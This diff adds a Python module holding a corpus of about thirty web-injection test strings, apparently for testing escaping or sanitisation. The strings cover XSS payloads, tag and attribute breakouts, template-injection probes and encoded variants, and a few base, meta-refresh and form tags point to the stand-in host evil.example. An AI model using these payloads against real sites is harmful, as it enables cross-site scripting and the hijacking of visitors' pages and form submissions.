@@ -1,0 +1,36 @@
+"""Texts that want to be more than text."""
+
+from __future__ import annotations
+
+CORPUS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</select><img src=x onerror=alert(1)>",
+    "--><script>alert(1)</script>",
+    "<!--<script>",
+    "]]><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;//evil.example>",
+    "<style>*{display:none}</style>",
+    "<form action=//evil.example><button>",
+    "{{ 7 * 7 }}",
+    "{% raw %}<b>{% endraw %}",
+    "${7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "<b>bold</b>",
+    "<mark>not ours</mark>",
+    "<details open ontoggle=alert(1)>",
+)
